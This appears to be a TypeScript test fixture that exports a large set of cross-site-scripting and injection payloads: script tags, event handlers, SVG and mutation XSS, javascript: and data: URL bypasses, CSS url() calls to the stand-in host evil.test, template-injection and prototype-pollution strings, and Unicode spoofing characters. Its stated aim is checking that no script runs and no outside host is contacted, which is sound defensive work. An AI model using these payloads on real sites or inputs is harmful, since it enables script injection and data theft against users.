/** What an attack runs when it gets to run, and whom it calls. */
const RUN = 'globalThis.pwned=1';
const CALL = 'https://evil.test/x';

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script>`,
  `<script src=${CALL}.js></script>`,
  `<script type=module>import '${CALL}.js'</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${CALL}.swf">`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=${CALL}">`,
  `<link rel=stylesheet href=${CALL}.css>`,
];

const events = [
  ...['onerror', 'OnErRoR', 'onload', 'onloadstart'].map((name) => `<img src=x ${name}=${RUN}>`),
  ...['onfocus autofocus', 'onanimationstart style="animation:x"', 'onpointerover', 'onbeforetoggle popover'].map(
    (name) => `<input ${name.replace(/^(on\w+)/, `$1="${RUN}"`)}>`,
  ),
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onpageshow=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<x-y onclick=${RUN}>click`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `x onfocus=${RUN} tabindex=0 autofocus`,
  '` onerror=`globalThis.pwned=1`',
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\u000c=${RUN}>`,
  `<pers-wallet onclick=${RUN}></pers-wallet>`,
];

const svg = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><image href=${CALL}.png></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
];

/** Addresses that run something, as they slip through checks by prefix. */
const addresses = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\u0000javascript:', '\u001fjavascript:', 'java\tscript:'].map(
    (scheme) => scheme + RUN,
  ),
  ...['java\nscript:', 'javascript\r\n:', '\u00a0javascript:', '\u200bjavascript:', 'javascript&colon;', 'javascript%3A'].map(
    (scheme) => scheme + RUN,
  ),
  `javascript://%0a${RUN}`,
  `javascript://localhost/%0a${RUN}`,
  `javascript:/*https://ok.test/*/${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  `view-source:${CALL}`,
  'blob:https://evil.test/0',
  'file:///etc/passwd',
  'filesystem:https://evil.test/x',
  'about:blank',
  'mailto:a@evil.test?bcc=b@evil.test',
];

const hosts = [
  '//evil.test/x.png',
  '\\\\evil.test\\x.png',
  '/\\evil.test/x.png',
  'https:\\\\evil.test\\x.png',
  'https:evil.test/x.png',
  'https:///evil.test/x.png\u0000',
  'http://evil.test/x.png',
  'https://ok.test@evil.test:x/x.png',
  'https://user:secret@evil.test/x.png',
  'https://evil.test/\r\nx-header: 1',
  'https://evil.test/x\u0009y.png',
  `https://evil.test/${'x'.repeat(3000)}`,
  'ftp://evil.test/x.png',
  'wss://evil.test/x',
];

const css = [
  `</style><style>*{background:url(${CALL})}</style>`,
  `<style>@import '${CALL}.css';</style>`,
  `red;background:url(${CALL})`,
  `#fff;}*{background:url(${CALL})}`,
  `} :host { display: none } /*`,
  `url(${CALL})`,
  `expression(${RUN})`,
  `x:expression(${RUN})`,
  `-moz-binding:url(${CALL})`,
  `behavior:url(${CALL}.htc)`,
  `var(--x,url(${CALL}))`,
  `image-set("${CALL}" 1x)`,
  `\\75rl(${CALL})`,
  `"><div style="position:fixed;inset:0;z-index:9">`,
];

const templates = [
  '${globalThis.pwned=1}',
  '`;globalThis.pwned=1;`',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '{{$on.constructor("globalThis.pwned=1")()}}',
  '<%= globalThis.pwned=1 %>',
  '#{globalThis.pwned=1}',
  '<!--?lit$123456789$-->',
  '?lit$123456789$',
  '{name}{count}{points}',
  `';${RUN};//`,
  `\\';${RUN};//`,
  `\u2028${RUN}\u2029`,
  "$&$1$`$'",
  '%s%d%n%c',
];

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<a id=persRewards><a id=persRewards name=q href="javascript:${RUN}">`,
  `<form id=document><input name=currentScript></form>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
];

const invisible = [
  '\u202egnp.exe\u202c',
  '\u2066left\u2069\u2067right\u2069',
  '\u200bzero\u200dwidth\ufeff',
  '\u0000\u0001\u0008\u001b[31m',
  '\ud800 lone \udfff',
  'Z\u0338\u0322\u031b\u0359a\u0337\u0316l\u0334\u031f',
  '\u00ad'.repeat(400),
  '\u{e0001}\u{e007f}tags',
  '\u0430dm\u0456n',
  'x'.repeat(20_000),
];

/** Where a text belongs: what templates, nodes and prototypes look like. */
const shapes: readonly unknown[] = [
  { _$litType$: 1, strings: Object.assign([`<img src=x onerror=${RUN}>`]), values: [] },
  { _$litType$: 2, strings: { raw: [`<svg onload=${RUN}>`] }, values: [] },
  { strings: [`<script>${RUN}</script>`], raw: [`<script>${RUN}</script>`], values: [] },
  { _$litDirective$: { directiveName: 'unsafeHTML' }, values: [`<img src=x onerror=${RUN}>`] },
  { nodeType: 1, nodeName: 'SCRIPT', outerHTML: `<script>${RUN}</script>` },
  { toString: RUN, valueOf: RUN, innerHTML: `<img src=x onerror=${RUN}>` },
  { __html: `<img src=x onerror=${RUN}>` },
  JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  [`<img src=x onerror=${RUN}>`, [`<svg onload=${RUN}>`]],
  [[[[]]]],
  { then: RUN },
  { length: 1e9, 0: `<script>${RUN}</script>` },
  '__proto__',
  'constructor',
  'hasOwnProperty',
  1e308,
  true,
];

/** Values in place of every text and address that the API answers with. No script may run, and nobody else be asked for anything. */
export const vectors: readonly unknown[] = [
  ...scripts,
  ...events,
  ...svg,
  ...addresses,
  ...hosts,
  ...css,
  ...templates,
  ...mutations,
  ...invisible,
  ...shapes,
];
